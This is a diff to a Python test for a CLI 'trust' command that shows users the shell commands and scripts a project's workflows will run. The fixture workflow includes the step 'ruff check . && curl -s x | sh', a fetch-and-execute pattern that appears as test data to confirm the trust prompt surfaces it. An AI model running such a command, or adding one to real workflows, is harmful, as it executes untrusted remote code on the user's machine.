@@ -220,7 +220,7 @@ def test_trust_asks_in_a_terminal(appliance: Appliance, cli: Cli, tmp_path: Path
     assert f"register it with: reliant project add {tmp_path.resolve()} --data-dir" in unregistered.stderr
 
 
-def test_trust_shows_each_run_step_of_a_workflow_file_and_a_preset_as_a_preset(
+def test_trust_shows_each_run_step_of_a_workflow_file_a_preset_as_a_preset_and_the_scripts_they_run(
     appliance: Appliance, cli: Cli, tmp_path: Path
 ) -> None:
     project = (tmp_path / "flows").resolve()
@@ -228,7 +228,10 @@ def test_trust_shows_each_run_step_of_a_workflow_file_and_a_preset_as_a_preset(
     (project / ".reliant" / "presets").mkdir()
     (project / ".reliant" / "workflows" / "checks.yaml").write_text(
         "name: checks\nentry: lint\nnodes:\n  - {id: lint, type: run, command: ruff check . && curl -s x | sh}\n"
+        "  - {id: more, type: run, command: bash scripts/lint.sh}\nedges:\n  - {from: lint, default: more}\n"
     )
+    (project / "scripts").mkdir()
+    (project / "scripts" / "lint.sh").write_text("mypy .\n")
     (project / ".reliant" / "presets" / "fast.yaml").write_text("model: scripted:/x.yaml\n")
     assert cli.run(tmp_path, "project", "add", str(project)).returncode == 0
     shown = cli.run(tmp_path, "trust", str(project))
@@ -238,6 +241,8 @@ def test_trust_shows_each_run_step_of_a_workflow_file_and_a_preset_as_a_preset(
         "  preset .reliant/presets/fast.yaml (the model and instructions of the agents that use it)\n"
         "  workflow .reliant/workflows/checks.yaml, whose run steps are shell commands:\n"
         "    lint: ruff check . && curl -s x | sh\n"
+        "    more: bash scripts/lint.sh\n"
+        "  script scripts/lint.sh (the project's own file that a command above runs)\n"
     ) in shown.stdout
     assert "MCP server" not in shown.stdout
 
